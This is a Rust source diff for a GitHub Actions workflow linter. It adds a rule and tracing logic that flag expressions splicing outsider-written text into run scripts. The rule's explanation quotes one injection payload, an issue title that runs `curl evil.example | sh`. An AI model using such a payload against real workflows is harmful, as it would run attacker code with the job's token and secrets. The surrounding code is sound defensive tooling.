@@ -3,21 +3,35 @@
 use anyhow::Result;
 use serde::Deserialize;
 
-use super::view::{Context, View};
+use super::view::{Context, Step, View};
 use crate::core::finding::{Group, Severity};
+use crate::core::yaml::Node;
 use crate::lint::rule::{Offence, Parameters, Rule};
 
 pub(crate) const RULE: Rule = Rule {
     name: "template-injection",
     group: Group::Workflow,
     severity: Severity::High,
-    summary: "Outside text is spliced into a script by an expression.",
+    summary: "Text that outsiders write is spliced into a script by an expression.",
     why: "GitHub replaces `${{ … }}` before the shell sees the script. An issue titled `\"; curl evil.example | sh #` \
           is then not a title but a command, run with the job's token and secrets. Anybody can write an issue, name \
-          a branch or word a commit. Results of steps, inputs and variables carry such text on.\n\nParameters: \
-          `safe`, look-ups that may be spliced (a last `*` takes what follows).",
+          a branch or word a commit.\n\nParameters: `safe`, look-ups that may be spliced (a last `*` takes what \
+          follows).",
     example: "```yaml\n- run: echo \"${{ github.event.issue.title }}\"\n```\n\nHand it over as data:\n\n```yaml\n- run: echo \
               \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.issue.title }}\n```",
+    remedy: "set it as an `env` of the step, and use the variable, quoted, in the script",
+};
+
+pub(crate) const SPLICED: Rule = Rule {
+    name: "template-expansion",
+    group: Group::Workflow,
+    severity: Severity::Medium,
+    summary: "An input, output or variable is spliced into a script by an expression.",
+    why: "GitHub replaces `${{ … }}` before the shell sees the script, so a quote or a `$(…)` in the value becomes part \
+          of the command. Results of steps, inputs and variables often carry text on that an outsider wrote; whether \
+          they do here is not visible in this file.\n\nParameters: `safe` of `template-injection` holds here too.",
+    example: "```yaml\n- run: ./deploy.sh ${{ inputs.environment }}\n```\n\n```yaml\n- run: ./deploy.sh \"$ENVIRONMENT\"\n  \
+              env:\n    ENVIRONMENT: ${{ inputs.environment }}\n```",
     remedy: "set it as an `env` of the step, and use the variable, quoted, in the script",
 };
 
@@ -69,16 +83,31 @@ struct Settings {
     safe: Vec<String>,
 }
 
+/// Text that outsiders write.
 pub(super) fn check(view: &View<'_>, _: &Context<'_>, parameters: &Parameters) -> Result<Vec<Offence>> {
+    spliced(view, parameters, &RULE, true)
+}
+
+/// Text that may be an outsider's.
+pub(super) fn check_spliced(
+    view: &View<'_>,
+    _: &Context<'_>,
+    parameters: &Parameters,
+) -> Result<Vec<Offence>> {
+    spliced(view, parameters, &SPLICED, false)
+}
+
+fn spliced(view: &View<'_>, parameters: &Parameters, rule: &Rule, is_certain: bool) -> Result<Vec<Offence>> {
     let settings: Settings = parameters.of(&RULE)?;
     let mut offences = Vec::new();
-    for (_, script) in view.scripts() {
+    for (step, script) in view.scripts() {
         for found in view.within(script) {
             let Ok(expression) = &found.parsed else { continue };
             for path in expression.results() {
-                if let Some(who) = who_writes(&path, &settings) {
-                    let message = format!("`{}` is spliced into a script; {who}", path.join("."));
-                    offences.push(view.offence(&RULE, found.span, message));
+                let written = who_writes(view, step, &path, &settings, 0);
+                if let Some(writer) = written.filter(|writer| writer.is_outsider() == is_certain) {
+                    let message = format!("`{}` is spliced into a script; {}", path.join("."), writer.says());
+                    offences.push(view.offence(rule, found.span, message));
                 }
             }
         }
@@ -86,8 +115,41 @@ pub(super) fn check(view: &View<'_>, _: &Context<'_>, parameters: &Parameters) -
     Ok(offences)
 }
 
+/// Who decides what a look-up says.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Writer {
+    Unknown,
+    Caller,
+    Starter,
+    Outsider,
+}
+
+impl Writer {
+    fn is_outsider(self) -> bool {
+        self == Self::Outsider
+    }
+
+    fn says(self) -> &'static str {
+        match self {
+            Self::Unknown => "it can carry outside text",
+            Self::Caller => "whoever calls it writes it",
+            Self::Starter => "whoever starts the workflow writes it",
+            Self::Outsider => "anybody may write it",
+        }
+    }
+}
+
+/// Variables of variables of …: deeper than GitHub's three levels.
+const MOST_LEVELS: usize = 4;
+
 /// Who decides what it says; nothing for what may be spliced.
-fn who_writes(path: &[String], settings: &Settings) -> Option<&'static str> {
+fn who_writes(
+    view: &View<'_>,
+    step: &Step<'_>,
+    path: &[String],
+    settings: &Settings,
+    depth: usize,
+) -> Option<Writer> {
     let joined = path.join(".");
     let safe = SAFE.iter().copied().chain(settings.safe.iter().map(String::as_str));
     if safe.into_iter().any(|pattern| covers(pattern, &joined)) {
@@ -100,17 +162,42 @@ fn who_writes(path: &[String], settings: &Settings) -> Option<&'static str> {
         | ["github", "token"]
         | ["needs", _, "result"]
         | ["steps", _, "outcome" | "conclusion"] => None,
-        ["github", "event", "inputs", ..] => Some("whoever starts the workflow writes it"),
+        ["env", name] if depth < MOST_LEVELS => of_variable(view, step, name, settings, depth),
+        ["github", "event", "inputs", ..] => Some(Writer::Starter),
         ["github", "event", .., last] if SAFE_FIELDS.contains(last) => None,
-        [
-            "github",
-            "event" | "head_ref" | "ref" | "ref_name" | "base_ref" | "actor" | "triggering_actor"
-            | "workflow_ref",
-            ..,
-        ] => Some("anybody may write it"),
-        ["inputs", ..] => Some("whoever calls it writes it"),
-        _ => Some("it can carry outside text"),
+        // A branch that is pushed belongs to this repository: its writers name it.
+        ["github", "ref" | "ref_name"] if !view.is_triggered_by_pull_request() => Some(Writer::Unknown),
+        ["github", "event" | "head_ref" | "ref" | "ref_name", ..] => Some(Writer::Outsider),
+        ["inputs", ..] => Some(Writer::Caller),
+        _ => Some(Writer::Unknown),
     }
+}
+
+/// Who decides what a variable of the nearest level that sets it says. One that a script may set anew through
+/// `GITHUB_ENV` is unknown.
+fn of_variable(
+    view: &View<'_>,
+    step: &Step<'_>,
+    name: &str,
+    settings: &Settings,
+    depth: usize,
+) -> Option<Writer> {
+    let set = view.levels(step).into_iter().enumerate().find_map(|(level, node)| {
+        let entries = node.get("env").map(Node::entries).unwrap_or_default();
+        let value =
+            entries.iter().find(|(key, _)| key.text().is_some_and(|key| key.eq_ignore_ascii_case(name)));
+        value.map(|(_, value)| (level, value))
+    });
+    let Some((level, value)) = set else { return Some(Writer::Unknown) };
+    let is_of_step = level == 0;
+    if !is_of_step && view.writes_variable(step.job, name) {
+        return Some(Writer::Unknown);
+    }
+    view.within(value)
+        .filter_map(|found| found.parsed.as_ref().ok())
+        .flat_map(super::expression::Expression::results)
+        .filter_map(|path| who_writes(view, step, &path, settings, depth + 1))
+        .max()
 }
 
 fn covers(pattern: &str, path: &str) -> bool {
